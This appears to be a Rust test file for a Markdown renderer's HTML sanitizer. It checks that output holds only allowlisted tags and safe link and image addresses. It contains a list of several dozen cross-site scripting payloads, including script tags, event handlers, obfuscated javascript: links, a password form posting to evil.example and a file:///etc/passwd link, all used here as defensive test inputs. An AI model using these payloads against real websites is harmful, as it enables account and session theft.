//! What is written comes out, and nothing else ever does.

use super::*;

const DIGEST: &str = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";

/// Everything that may appear between `<` and `>`, with what stands in quotation marks taken out.
const ALLOWED: [&str; 43] = [
    "p",
    "/p",
    "h2",
    "/h2",
    "h3",
    "/h3",
    "h4",
    "/h4",
    "blockquote",
    "/blockquote",
    "pre",
    "/pre",
    "code",
    "/code",
    "ul",
    "/ul",
    "ol",
    "/ol",
    "ol start=\"\"",
    "li",
    "/li",
    "table",
    "/table",
    "thead",
    "/thead",
    "tbody",
    "/tbody",
    "tr",
    "/tr",
    "th scope=\"\"",
    "/th",
    "td",
    "/td",
    "em",
    "/em",
    "strong",
    "/strong",
    "del",
    "/del",
    "br",
    "hr",
    "a href=\"\"",
    "/a",
];
const LINK: &str = "a rel=\"\" href=\"\"";
const IMAGE: &str = "img loading=\"\" src=\"\" alt=\"\"";

/// Reads HTML the way a browser tells tags from text and fails on any tag, attribute or address that is
/// not on the list.
fn check(html: &str, source: &str) {
    let mut open = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let mut in_quotes = false;
        let end = rest[start..].find(|c| {
            in_quotes ^= c == '"';
            c == '>' && !in_quotes
        });
        let end = start + end.unwrap_or_else(|| panic!("an open tag in {html:?} from {source:?}"));
        let tag = &rest[start + 1..end];
        let parts: Vec<&str> = tag.split('"').collect();
        let bare: String = parts.iter().step_by(2).copied().collect::<Vec<_>>().join("\"\"");
        let known = ALLOWED.contains(&bare.as_str()) || bare == LINK || bare == IMAGE;
        assert!(known, "<{tag}> in {html:?} from {source:?}");
        for (name, value) in parts.iter().step_by(2).zip(parts.iter().skip(1).step_by(2)) {
            let value = value.to_lowercase();
            let is_fine = match name.trim() {
                name if name.ends_with("href=") => {
                    let schemes = ["http://", "https://", "mailto:", "#"];
                    schemes.iter().any(|scheme| value.starts_with(scheme))
                        || (value.starts_with('/') && !value.starts_with("//"))
                }
                name if name.ends_with("src=") => value.starts_with("/api/v1/") && !value.contains(".."),
                _ => true,
            };
            assert!(is_fine, "{name}{value} in {html:?} from {source:?}");
        }
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name.to_owned()), "{html:?} from {source:?}");
        } else if !["br", "hr"].contains(&tag) && !tag.starts_with("img") {
            open.push(tag.split(' ').next().unwrap_or_default().to_owned());
        }
        rest = &rest[end + 1..];
    }
    assert_eq!(open, Vec::<String>::new(), "{html:?} from {source:?}");
    assert!(!html.contains(['\u{202e}', '\u{2066}', '\0']), "{html:?}");
}

fn safe(source: &str) -> String {
    let html = to_html(source);
    check(&html, source);
    html
}

#[test]
fn what_leads_write_comes_out() {
    let html = safe("# One\n\nTwo **three** _four_ `<five>`\n\n1. six\n2. seven\n\n> eight\n\n~~nine~~");
    assert_eq!(
        html,
        "<h2>One</h2>\n<p>Two <strong>three</strong> <em>four</em> <code>&lt;five&gt;</code></p>\n\
         <ol>\n<li>six</li>\n<li>seven</li>\n</ol>\n<blockquote>\n<p>eight</p>\n</blockquote>\n\
         <p><del>nine</del></p>\n"
    );
    let table = safe("| a | b |\n|:--|--:|\n| 1 | 2 |\n");
    assert!(table.contains("<th scope=\"col\">a</th>") && table.contains("<td>2</td>"), "{table}");
    assert_eq!(safe("```html\n<b onclick=x>\n```"), "<pre><code>&lt;b onclick=x&gt;\n</code></pre>\n");
    assert_eq!(safe("## a\n### b\n###### c"), "<h2>a</h2>\n<h3>b</h3>\n<h4>c</h4>\n");
    assert_eq!(safe("# a\n### b\n## c\n# d"), "<h2>a</h2>\n<h3>b</h3>\n<h3>c</h3>\n<h2>d</h2>\n");
}

#[test]
fn links_lead_to_the_web_to_letters_and_within() {
    let far = "<p><a rel=\"nofollow noopener noreferrer\" href=\"https://arxiv.org/abs/1504.06148?a=1&amp;b=2\">x</a></p>\n";
    assert_eq!(safe("[x](https://arxiv.org/abs/1504.06148?a=1&b=2)"), far);
    assert_eq!(safe("[x](/news/y#z)"), "<p><a href=\"/news/y#z\">x</a></p>\n");
    assert!(safe("<team@example.org>").contains("href=\"mailto:team@example.org\""));
    assert!(safe("<https://example.org>").contains("href=\"https://example.org\""));
}

#[test]
fn lines_of_chinese_are_joined_without_a_blank() {
    assert_eq!(safe("引力透镜\n很少见。\n很美"), "<p>引力透镜很少见。很美</p>\n");
    assert_eq!(safe("bent\nlight"), "<p>bent\nlight</p>\n");
    assert_eq!(safe("透镜\nlens"), "<p>透镜\nlens</p>\n");
}

#[test]
fn images_come_from_here_and_others_leave_their_words() {
    for folder in ["images", "uploads"] {
        let html = safe(&format!("![an \"arc\"](/api/v1/{folder}/{DIGEST}.jpg)"));
        let expected = format!(
            "<p><img loading=\"lazy\" src=\"/api/v1/{folder}/{DIGEST}.jpg\" alt=\"an &quot;arc&quot;\"></p>\n"
        );
        assert_eq!(html, expected);
    }
    for wrong in [
        "https://evil.example/x.jpg",
        "//evil.example/x.jpg",
        "data:image/png;base64,AAAA",
        "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
        "/api/v1/images/../me.jpg",
        "/api/v1/images/short.jpg",
        "/api/v1/session",
        "javascript:alert(1)",
    ] {
        let html = safe(&format!("![a **picture** `x`](<{wrong}>)"));
        assert!(html.contains("a picture x") && !html.contains("<img"), "{html}");
    }
    assert!(!safe("![a ![b](x) c](y)").contains("<img"));
}

/// What has broken other sites.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "a <img src=x onerror=alert(1)> b",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<b><i><u><b <b onmouseover=alert(1)>x",
    "<<img src=x onerror=alert(1)//<",
    "<p>\n\n[x](javascript:alert(1))\n\n</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/y)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: data:text/html,<script>alert(1)</script> \"t\"",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
    "[x](https://a.example 'a\" onload=\"alert(1)')",
    "![x\" onerror=\"alert(1)](/api/v1/images/ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad.jpg)",
    "![x](/api/v1/images/ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad.jpg\"onerror=alert(1))",
    "![<script>alert(1)</script>](x)",
    "# <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>alert(1)</script>\n  <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "a\u{202e}gpj.exe\u{202c} [b\u{2066}](https://example.org/\u{202e}x)",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import'//evil.example';</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "~~<del onclick=alert(1)>~~",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "[![x](y)](javascript:alert(1))",
    "***[***](javascript:x)***",
];

#[test]
fn nothing_that_runs_comes_out() {
    for attack in ATTACKS {
        let html = safe(attack);
        let lower = html.to_lowercase();
        let runs = ["<script", "<img src=x", "<svg", "<iframe", "<style", "href=\"javascript", "href=\"data"];
        assert!(!runs.iter().any(|word| lower.contains(word)), "{attack:?} became {html:?}");
    }
}

#[test]
fn attacks_stay_harmless_inside_and_beside_each_other() {
    for first in ATTACKS {
        for second in ATTACKS {
            for glue in ["", " ", "\n", "\n\n", "\n> ", "\n- ", "](", "|"] {
                safe(&format!("{first}{glue}{second}"));
            }
        }
    }
}

#[test]
fn any_mixture_of_signs_is_closed_again_and_safe() {
    // A fixed walk through everything that means something in Markdown or HTML.
    let pieces = [
        "*",
        "_",
        "**",
        "`",
        "```\n",
        "[",
        "](",
        ")",
        "!",
        "<",
        ">",
        "\"",
        "'",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "#",
        " ",
        "|",
        "---|",
        "&#x3c;",
        "script",
        "javascript:",
        "a",
        "透",
        "\\",
        "~~",
        "</",
        "<!--",
        "-->",
        "http://a",
    ];
    let mut state: u64 = 9;
    for _ in 0..4_000 {
        let mut source = String::new();
        for _ in 0..24 {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            source.push_str(pieces[(state >> 33) as usize % pieces.len()]);
        }
        safe(&source);
    }
}

#[test]
fn huge_and_deep_texts_stay_shallow_and_come_to_an_end() {
    for deep in ["> ", "- ", "* > ", "[", "![", "*a ", "`", "<b>", "1. ", "_", "**a", "[a](", "&#60;", "| "] {
        let html = safe(&deep.repeat(40_000 / deep.len()));
        assert!(html.matches("<blockquote>").count() <= DEEPEST, "{deep}");
        assert!(html.matches("<ul>").count() <= DEEPEST, "{deep}");
    }
    safe(&"word 引力 ".repeat(4_000));
}
